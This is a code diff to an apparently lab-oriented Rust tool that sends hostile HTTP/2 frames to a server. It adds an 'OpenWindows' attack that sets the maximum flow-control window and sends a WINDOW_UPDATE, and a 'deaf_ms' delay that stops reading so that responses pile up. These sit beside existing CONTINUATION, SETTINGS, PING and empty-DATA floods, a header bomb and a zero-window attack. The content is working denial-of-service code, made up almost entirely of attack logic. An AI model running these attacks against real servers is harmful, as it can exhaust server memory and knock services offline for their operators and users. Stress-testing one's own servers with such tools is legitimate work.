@@ -22,7 +22,7 @@ use tokio::{
 use crate::{
     frames::{
         ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frame, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
-        PREFACE, RST_STREAM, indexed, literals,
+        PREFACE, RST_STREAM, WINDOW_UPDATE, indexed, literals,
     },
     print,
 };
@@ -35,6 +35,8 @@ const LAST_PING: [u8; 8] = *b"lab-last";
 const BOMB: usize = 8000;
 /// The large header: nearly all of a dynamic table of the default size.
 const BOMB_VALUE: usize = 4000;
+/// RFC 9113 section 6.9.1.
+const LARGEST_WINDOW: u32 = (1 << 31) - 1;
 /// The first entry of HPACK's dynamic table, in one byte.
 const FIRST_DYNAMIC: u8 = 128 + 62;
 
@@ -56,6 +58,9 @@ pub struct Options {
     /// Read nothing until the last frame is written, so that answers pile up
     #[arg(long)]
     deaf: bool,
+    /// With that, how long to go on reading nothing after the last frame, in milliseconds
+    #[arg(long, default_value_t = 0)]
+    deaf_ms: u64,
     /// The path of the requests
     #[arg(long, default_value = "/")]
     path: String,
@@ -98,6 +103,7 @@ impl Options {
         let mut sent = Sent::default();
         let written = timeout_at(deadline, self.attack(&mut writer, &mut sent)).await;
         if let Some(reader) = reader {
+            tokio::time::sleep(Duration::from_millis(self.deaf_ms)).await;
             tokio::spawn(Arc::clone(&seen).read(reader));
         }
         let all_written = matches!(written, Ok(Ok(())));
@@ -120,6 +126,7 @@ impl Options {
     async fn attack(&self, writer: &mut OwnedWriteHalf, sent: &mut Sent) -> io::Result<()> {
         let settings = match self.kind {
             AttackKind::ZeroWindow => Frame::settings(&[(INITIAL_WINDOW_SIZE, 0)]),
+            AttackKind::OpenWindows => Frame::settings(&[(INITIAL_WINDOW_SIZE, LARGEST_WINDOW)]),
             _ => Frame::settings(&[]),
         };
         writer.write_all(&[PREFACE, &settings.encode()].concat()).await?;
@@ -147,6 +154,10 @@ impl Options {
         let frame = match self.kind {
             AttackKind::ContinuationFlood => Frame::new(HEADERS, END_STREAM, 1, self.request("GET")),
             AttackKind::EmptyDataFlood => Frame::new(HEADERS, END_HEADERS, 1, self.request("POST")),
+            // That of the connection has 65,535 already.
+            AttackKind::OpenWindows => {
+                Frame::new(WINDOW_UPDATE, 0, 0, (LARGEST_WINDOW - 65_535).to_be_bytes())
+            }
             _ => return None,
         };
         Some(frame.encode())
@@ -168,7 +179,9 @@ impl Options {
             }
             AttackKind::SettingsFlood => vec![Frame::settings(&[(3, 100 + number as u32 % 100)])],
             AttackKind::PingFlood => vec![Frame::new(PING, 0, 0, number.to_be_bytes())],
-            AttackKind::ZeroWindow => vec![Frame::new(HEADERS, whole, stream, self.request("GET"))],
+            AttackKind::ZeroWindow | AttackKind::OpenWindows => {
+                vec![Frame::new(HEADERS, whole, stream, self.request("GET"))]
+            }
             AttackKind::HeaderBomb => vec![Frame::new(HEADERS, whole, stream, self.bomb())],
             AttackKind::EmptyDataFlood => vec![Frame::new(DATA, 0, 1, [])],
             AttackKind::OpenStreams => vec![Frame::new(HEADERS, END_HEADERS, stream, self.request("POST"))],
